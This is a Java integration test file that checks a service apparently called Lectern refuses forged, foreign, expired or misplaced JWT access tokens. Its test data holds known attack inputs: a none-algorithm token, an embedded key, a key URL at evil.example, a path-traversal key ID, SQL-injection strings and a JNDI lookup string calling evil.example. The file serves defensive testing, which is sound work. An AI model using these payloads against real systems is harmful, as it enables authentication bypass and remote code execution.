package dev.lectern.attack;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.nimbusds.jose.JOSEException;
import com.nimbusds.jose.JOSEObjectType;
import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.JWSHeader;
import com.nimbusds.jose.JWSSigner;
import com.nimbusds.jose.crypto.MACSigner;
import com.nimbusds.jose.crypto.RSASSASigner;
import com.nimbusds.jose.jwk.RSAKey;
import com.nimbusds.jose.jwk.gen.RSAKeyGenerator;
import com.nimbusds.jwt.JWTClaimsSet;
import com.nimbusds.jwt.PlainJWT;
import com.nimbusds.jwt.SignedJWT;
import dev.lectern.testing.LecternClient;
import dev.lectern.testing.LecternServer;
import dev.lectern.testing.RawHttp.Reply;
import dev.lectern.testing.TestPostgres;
import java.io.IOException;
import java.net.URI;
import java.time.Duration;
import java.time.Instant;
import java.util.Date;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.Objects;
import java.util.Set;
import java.util.UUID;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// Tokens of anonymous readers that Lectern has not made, or not for this. Those of the identity provider are attacked
/// in `IdentitiesIT`.
class ForgeryIT {

    private static final String SECRET = "signs the tokens of this test's readers";

    private static LecternServer lectern;

    @BeforeAll
    static void start() {
        lectern = LecternServer.start(
                TestPostgres.jdbcUrl(TestPostgres.freshDatabase()), Map.of("access.tokenSecret", SECRET));
    }

    @AfterAll
    static void stop() {
        lectern.close();
    }

    @Test
    void a_forged_foreign_or_expired_token_is_refused_with_the_words_for_none() throws Exception {
        String none = words(null);
        // That what follows is refused for what is wrong with it, and for nothing else.
        assertThat(Attacker.at(lectern)
                        .as(signed(SECRET, good().build()))
                        .send("GET /api/v1/conversations")
                        .status())
                .isEqualTo(200);

        for (Map.Entry<String, String> forged : forged().entrySet()) {
            assertThat(words(forged.getValue())).as(forged.getKey()).isEqualTo(none);
        }
    }

    private static Map<String, String> forged() throws JOSEException {
        String genuine = signed(SECRET, good().build());
        String[] parts = genuine.split("\\.", -1);
        String others = signed(SECRET, good().build()).split("\\.", -1)[1];
        RSAKey own = new RSAKeyGenerator(2048).generate();
        JWSHeader.Builder hmac = new JWSHeader.Builder(JWSAlgorithm.HS256);
        JWSHeader.Builder rsa = new JWSHeader.Builder(JWSAlgorithm.RS256);
        Map<String, String> tokens = new LinkedHashMap<>();
        tokens.put("another secret", signed("a secret that the attacker has made up", good().build()));
        tokens.put("no signature", parts[0] + "." + parts[1] + ".");
        tokens.put("no algorithm", new PlainJWT(good().build()).serialize());
        tokens.put("another reader under this signature", parts[0] + "." + others + "." + parts[2]);
        tokens.put(
                "another algorithm of the same kind",
                signed(
                        new JWSHeader.Builder(JWSAlgorithm.HS512),
                        new MACSigner(SECRET.repeat(2).getBytes(UTF_8)),
                        good().build()));
        tokens.put(
                "a key that the token brings along",
                signed(rsa.jwk(own.toPublicJWK()), new RSASSASigner(own), good().build()));
        tokens.put(
                "a key at an address that the token names",
                signed(
                        rsa.jwkURL(URI.create("https://evil.example/jwks.json")),
                        new RSASSASigner(own),
                        good().build()));
        tokens.put(
                "a key whose name climbs to an empty file",
                signed(hmac.keyID("../../../dev/null"), new MACSigner(new byte[32]), good().build()));
        tokens.put(
                "a key whose name is SQL",
                signed(
                        new JWSHeader.Builder(JWSAlgorithm.HS256).keyID("x' UNION SELECT 'a"),
                        new MACSigner(new byte[32]),
                        good().build()));
        tokens.put(
                "expired",
                signed(SECRET, good().expirationTime(in(Duration.ofSeconds(-1))).build()));
        tokens.put("without an end", signed(SECRET, good().expirationTime(null).build()));
        tokens.put(
                "of another issuer",
                signed(SECRET, good().issuer("https://issuer.example").build()));
        tokens.put("for nobody", signed(SECRET, good().subject(null).build()));
        tokens.put(
                "for who is no reader",
                signed(SECRET, good().subject("' OR 1=1 --").build()));
        tokens.put("longer than any", genuine + "A".repeat(4_000));
        tokens.put("no token at all", "%s%n${jndi:ldap://evil.example/a}");
        return tokens;
    }

    @Test
    void a_critical_extension_that_nobody_knows_is_not_ignored() throws Exception {
        JWSHeader.Builder critical = new JWSHeader.Builder(JWSAlgorithm.HS256)
                .type(JOSEObjectType.JWT)
                .criticalParams(Set.of("lectern-scope"))
                .customParam("lectern-scope", "books:write");

        assertThat(words(signed(critical, new MACSigner(SECRET.getBytes(UTF_8)), good().build())))
                .isEqualTo(words(null));
    }

    @Test
    void a_token_in_the_address_is_refused_by_name() throws IOException {
        try (LecternClient reader = lectern.reader()) {
            String token = Objects.requireNonNull(reader.token());
            for (String path : new String[] {"/conversations", "/books", "/search?q=a&b=c"}) {
                String query = (path.contains("?") ? "&" : "?") + "access_token=" + token;

                Reply reply = Attacker.at(lectern).send("GET /api/v1" + path + query);

                Attacker.refused(reply, 400, "access_token");
                assertThat(reply.body()).doesNotContain(token);
            }
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Authorization: %s",
                "Authorization: Basic %s",
                "Authorization: Token %s",
                "Authorization: Bearer",
                "Authorization: Bearer, Bearer %s",
                "Cookie: access_token=%s; Authorization=Bearer %s",
                "X-Authorization: Bearer %s",
                "Proxy-Authorization: Bearer %s",
                "X-Lectern-Reader: %s"
            })
    void a_good_token_in_the_wrong_place_is_none(String header) throws IOException {
        try (LecternClient reader = lectern.reader()) {
            String token = Objects.requireNonNull(reader.token());

            Reply reply = Attacker.at(lectern).send("GET /api/v1/conversations", header.replace("%s", token));

            Attacker.refused(reply, 401);
            assertThat(reply.header("WWW-Authenticate")).startsWith("Bearer");
        }
    }

    @Test
    void two_tokens_in_one_request_are_refused_whosever_they_are() throws IOException {
        try (LecternClient reader = lectern.reader();
                LecternClient other = lectern.reader()) {
            String good = "Authorization: Bearer " + reader.token();
            for (String second : new String[] {
                "Authorization: Bearer " + other.token(),
                "authorization: bearer " + reader.token(),
                "Authorization: Bearer made up",
                "Authorization: Bearer " + LecternServer.API_KEY,
                "Authorization: Basic YTpi",
                "Authorization:"
            }) {
                for (String[] headers : new String[][] {{good, second}, {second, good}}) {
                    for (String path : new String[] {"conversations", "books", "readers/me/export"}) {
                        Attacker.refused(
                                Attacker.at(lectern).send("GET /api/v1/" + path, headers), 400, "Authorization");
                    }
                    Attacker.refused(Attacker.atAdminPort(lectern).send("GET /metrics", headers), 400, "Authorization");
                }
            }
            Attacker.refused(
                    Attacker.at(lectern)
                            .as(reader.token())
                            .sendJson(
                                    "PUT /api/v1/books/pools", "{}", "Authorization: Bearer " + LecternServer.API_KEY),
                    400,
                    "Authorization");
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"Bearer", "bearer", "BEARER", "bEaReR"})
    void how_the_scheme_is_written_does_not_matter_anywhere(String scheme) throws IOException {
        try (LecternClient reader = lectern.reader()) {
            assertThat(Attacker.at(lectern)
                            .send("GET /api/v1/conversations", "Authorization: " + scheme + " " + reader.token())
                            .status())
                    .isEqualTo(200);
            // It is an archive that is missing, and not a right.
            assertThat(Attacker.at(lectern)
                            .send(
                                    "PUT /api/v1/books/pools",
                                    "Authorization: " + scheme + " " + LecternServer.API_KEY,
                                    "Content-Type: application/zip",
                                    "Content-Length: 0")
                            .status())
                    .isEqualTo(422);
        }
    }

    @Test
    void a_readers_token_opens_neither_the_import_nor_a_scope() throws IOException {
        try (LecternClient reader = lectern.reader()) {
            Reply reply = Attacker.at(lectern)
                    .as(reader.token())
                    .send("PUT /api/v1/books/pools", "Content-Type: application/zip", "Content-Length: 0");

            Attacker.refused(reply, 403);
        }
    }

    private static String words(@Nullable String token) throws IOException {
        Reply reply = Attacker.at(lectern).as(token).send("GET /api/v1/conversations");
        JsonNode problem = Attacker.refused(reply, 401);
        return problem.at("/type").asText() + " " + problem.at("/detail").asText();
    }

    private static JWTClaimsSet.Builder good() {
        return new JWTClaimsSet.Builder()
                .issuer("lectern")
                .subject(UUID.randomUUID().toString())
                .issueTime(in(Duration.ofMinutes(-1)))
                .expirationTime(in(Duration.ofHours(1)));
    }

    private static Date in(Duration time) {
        return Date.from(Instant.now().plus(time));
    }

    private static String signed(String secret, JWTClaimsSet claims) throws JOSEException {
        return signed(new JWSHeader.Builder(JWSAlgorithm.HS256), new MACSigner(secret.getBytes(UTF_8)), claims);
    }

    private static String signed(JWSHeader.Builder header, JWSSigner signer, JWTClaimsSet claims) throws JOSEException {
        SignedJWT token = new SignedJWT(header.build(), claims);
        token.sign(signer);
        return token.serialize();
    }
}
